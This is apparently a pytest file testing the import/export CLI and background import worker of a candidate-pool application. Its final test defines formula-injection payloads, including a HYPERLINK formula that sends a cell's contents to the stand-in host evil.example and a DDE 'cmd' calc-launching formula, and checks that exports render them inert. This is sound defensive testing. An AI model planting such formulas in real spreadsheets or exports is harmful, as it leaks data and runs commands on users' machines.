"""`vivier import` and `vivier export` run as a user runs them (a child process on a fresh database),
and the worker's import step."""

import csv
import io
import json
import os
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from django.db import connection

from vivier.lib import clock
from vivier.pool.importing import handle_one_import
from vivier.pool.models import Candidate, ImportBatch

ROOT = Path(__file__).resolve().parents[3]
FIXTURES = Path(__file__).parent / "fixtures"


def vivier(data_dir, *args):
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "DJANGO_SETTINGS_MODULE")}
    env["VIVIER_DATA_DIR"] = str(data_dir)
    return subprocess.run(
        [sys.executable, "-m", "vivier", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_the_import_command_prints_one_json_report_and_a_second_run_changes_nothing(tmp_path):
    files = [str(FIXTURES / "excel_fr_cp1252.csv"), str(FIXTURES / "linkedin_Candidates.csv")]
    first = vivier(tmp_path, "import", *files, "--json")
    assert first.returncode == 0, first.stderr
    report = json.loads(first.stdout)
    assert set(report) == {"rows", "created", "merged", "unchanged", "errors", "status"}
    assert (report["rows"], report["created"], report["merged"]) == (7, 3, 2)
    assert 4 in [e["row"] for e in report["errors"]]
    # the English message for people and scripts, the code and params a page words in its reader's language
    assert all(set(e) == {"row", "message", "code", "params"} for e in report["errors"])
    second = json.loads(vivier(tmp_path, "import", *files, "--json").stdout)
    assert (second["created"], second["merged"], second["unchanged"]) == (0, 0, 5)


def test_the_import_command_explains_bad_arguments(tmp_path):
    missing = vivier(tmp_path, "import", str(tmp_path / "nope.csv"))
    assert missing.returncode != 0 and "cannot read" in missing.stderr
    bad_mapping = vivier(tmp_path, "import", str(FIXTURES / "tab.tsv"), "--mapping", '{"Courriel": "shoe"}')
    assert bad_mapping.returncode != 0 and "unknown field" in bad_mapping.stderr
    bad_team = vivier(tmp_path, "import", str(FIXTURES / "tab.tsv"), "--team", "nope")
    assert bad_team.returncode != 0 and "no team 'nope'" in bad_team.stderr


def test_the_import_command_reads_a_mapping_file_and_the_dry_run_writes_nothing(tmp_path):
    mapping = tmp_path / "mapping.json"
    mapping.write_text(json.dumps({"Mobile": "phone", "Poste": "headline"}), encoding="utf-8")
    dry = vivier(tmp_path, "import", str(FIXTURES / "tab.tsv"), "--mapping", str(mapping), "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert "2 candidates would be created" in dry.stdout
    exported = vivier(tmp_path, "export", "--format", "jsonl")
    assert exported.stdout == ""


def test_the_export_writes_one_candidate_per_line_with_all_their_identities(tmp_path):
    vivier(
        tmp_path, "import", str(FIXTURES / "excel_fr_cp1252.csv"), str(FIXTURES / "linkedin_Candidates.csv")
    )
    lines = vivier(tmp_path, "export", "--format", "jsonl").stdout.splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == 3
    helene = next(r for r in records if r["first_name"] == "Hélène")
    assert helene["emails"] == ["helene.dupre@exemple.fr", "h.dupre@gmail.com", "helene@perso.fr"]
    assert helene["phones"] == ["+33612345678"]
    assert {s["kind"] for s in helene["sources"]} == {"import", "linkedin"}
    out = tmp_path / "pool.csv"
    result = vivier(tmp_path, "export", "--format", "csv", "--output", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 3
    row = next(r for r in rows if r["first_name"] == "Hélène")
    assert row["emails"] == "helene.dupre@exemple.fr; h.dupre@gmail.com; helene@perso.fr"
    assert row["linkedin"] == "https://www.linkedin.com/in/helene-dupre-42"
    assert "linkedin: LinkedIn" in row["sources"]


@pytest.mark.django_db
def test_the_worker_claims_a_pending_import_and_records_its_progress(team, alice, tmp_path):
    stored = tmp_path / "upload.csv"
    stored.write_bytes((FIXTURES / "excel_fr_cp1252.csv").read_bytes())
    batch = ImportBatch.objects.create(
        team=team,
        created_by=alice,
        filename="candidats.csv",
        stored_path=str(stored),
        source="Salon infirmier",
        created_at=clock.now(),
    )
    assert handle_one_import() is True
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.DONE and batch.finished_at
    assert (batch.rows, batch.created, batch.merged) == (5, 2, 1)
    assert any(e["row"] == 6 for e in batch.errors)
    helene = Candidate.objects.get(team=team, emails__email="helene.dupre@exemple.fr")
    imported = helene.timeline.get(kind="imported")
    assert imported.actor == alice and imported.params["file"] == "candidats.csv"
    assert helene.sources.get().name == "Salon infirmier"
    assert handle_one_import() is False


@pytest.mark.django_db
def test_a_batch_already_claimed_by_the_worker_is_not_run_a_second_time_by_the_page(team, alice, tmp_path):
    from vivier.pool.importing import import_batch_process

    stored = tmp_path / "upload.csv"
    stored.write_bytes((FIXTURES / "excel_fr_cp1252.csv").read_bytes())
    batch = ImportBatch.objects.create(
        team=team,
        created_by=alice,
        filename="candidats.csv",
        stored_path=str(stored),
        status=ImportBatch.Status.RUNNING,
        created_at=clock.now(),
    )
    import_batch_process(batch=batch)  # what the page's thread does: it must see the claim and step back
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.RUNNING and batch.rows == 0
    assert not Candidate.objects.filter(team=team).exists()


@pytest.mark.django_db
def test_a_failing_import_batch_is_marked_failed_with_its_reason(team, tmp_path):
    batch = ImportBatch.objects.create(
        team=team, filename="x.csv", stored_path=str(tmp_path / "gone.csv"), created_at=clock.now()
    )
    assert handle_one_import() is True
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.FAILED
    assert "No such file" in batch.error


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_workers_never_process_the_same_import(team, tmp_path):
    import threading

    from django.db import connection

    for n in range(3):
        path = tmp_path / f"{n}.csv"
        path.write_text(f"Email\nw{n}@example.fr\n", encoding="utf-8")
        ImportBatch.objects.create(
            team=team, filename=path.name, stored_path=str(path), created_at=clock.now()
        )
    handled = []

    def worker():
        try:
            while handle_one_import():
                handled.append(1)
        finally:
            connection.close()

    threads = [threading.Thread(target=worker) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert set(ImportBatch.objects.values_list("status", flat=True)) == {ImportBatch.Status.DONE}
    assert Candidate.objects.filter(team=team).count() == 3
    assert sum(ImportBatch.objects.values_list("created", flat=True)) == 3


@pytest.mark.django_db
def test_an_import_whose_process_died_is_run_again_by_the_worker_and_changes_nothing_twice(
    team, alice, tmp_path, time_machine
):
    """A batch left ``running`` by a process that died (a restarted web server) would show its progress bar
    forever: once its heartbeat is older than ``STALLED_AFTER`` the worker runs it again from the start,
    which is safe because importing a file again changes nothing it already imported."""
    from vivier.pool.importing import STALLED_AFTER, import_run

    stored = tmp_path / "upload.csv"
    stored.write_bytes((FIXTURES / "excel_fr_cp1252.csv").read_bytes())
    time_machine.move_to("2026-11-22 09:00:00+00:00", tick=False)
    import_run(team=team, paths=[stored], by=alice)  # what the dead process had written before it died
    people = Candidate.objects.filter(team=team).count()
    # (same file name as the dead run: the name is the source label of a generic file)
    batch = ImportBatch.objects.create(
        team=team,
        created_by=alice,
        filename="upload.csv",
        stored_path=str(stored),
        status=ImportBatch.Status.RUNNING,
        rows=3,
        created_at=clock.now(),
        heartbeat_at=clock.now(),
    )
    legacy = ImportBatch.objects.create(
        team=team,
        filename="upload.csv",
        stored_path=str(stored),  # before heartbeats
        status=ImportBatch.Status.RUNNING,
        created_at=clock.now(),
    )

    time_machine.move_to(clock.now() + STALLED_AFTER - timedelta(minutes=1), tick=False)
    assert handle_one_import() is False  # still beating recently enough: left alone
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.RUNNING and batch.rows == 3

    time_machine.move_to(clock.now() + timedelta(minutes=2), tick=False)
    assert handle_one_import() is True
    assert handle_one_import() is True
    for b in (batch, legacy):
        b.refresh_from_db()
        assert b.status == ImportBatch.Status.DONE and b.finished_at and b.heartbeat_at
        assert (b.rows, b.created, b.merged, b.unchanged) == (5, 0, 0, 3)
    assert Candidate.objects.filter(team=team).count() == people
    assert handle_one_import() is False


@pytest.mark.django_db
def test_a_running_import_beats_after_every_chunk(team, tmp_path, monkeypatch):
    from vivier.pool import importing

    stored = tmp_path / "upload.csv"
    stored.write_bytes((FIXTURES / "excel_fr_cp1252.csv").read_bytes())
    batch = ImportBatch.objects.create(
        team=team, filename="candidats.csv", stored_path=str(stored), created_at=clock.now()
    )
    beats = []

    def watch(execute, sql, params, many, context):
        result = execute(sql, params, many, context)
        if sql.startswith('UPDATE "pool_importbatch"') and "heartbeat_at" in sql:
            beats.append(ImportBatch.objects.get(pk=batch.pk).heartbeat_at)
        return result

    monkeypatch.setattr(importing.run, "CHUNK", 1)
    with connection.execute_wrapper(watch):
        importing.import_batch_process(batch=batch)
    assert len(beats) >= 4 and all(beats) and beats == sorted(beats)


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1,1)", "+1+1", "-2+3"]


def test_exports_neutralise_formulas_in_csv_and_xlsx(tmp_path):
    import openpyxl

    source = tmp_path / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["Prénom", "Nom", "Email", "Poste"])
        for i, text in enumerate(HOSTILE):
            writer.writerow([text, "Martin", f"c{i}@exemple.fr", text])
    assert vivier(tmp_path, "import", str(source)).returncode == 0
    result = vivier(tmp_path, "export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(r["first_name"] for r in rows) == sorted("'" + text for text in HOSTILE)
    out = tmp_path / "pool.xlsx"
    result = vivier(tmp_path, "export", "--format", "xlsx", "--output", str(out))
    assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("first_name")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(HOSTILE)  # the text as typed, stored as text
    assert {c.data_type for c in cells} == {"s"}
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "DJANGO_SETTINGS_MODULE")}
    piped = subprocess.run(
        [sys.executable, "-m", "vivier", "export", "--format", "xlsx"],
        cwd=ROOT,
        env={**env, "VIVIER_DATA_DIR": str(tmp_path)},
        capture_output=True,
        timeout=120,
    )
    assert piped.returncode == 0 and piped.stdout.startswith(b"PK")
    assert openpyxl.load_workbook(io.BytesIO(piped.stdout)).active.max_row == len(HOSTILE) + 1
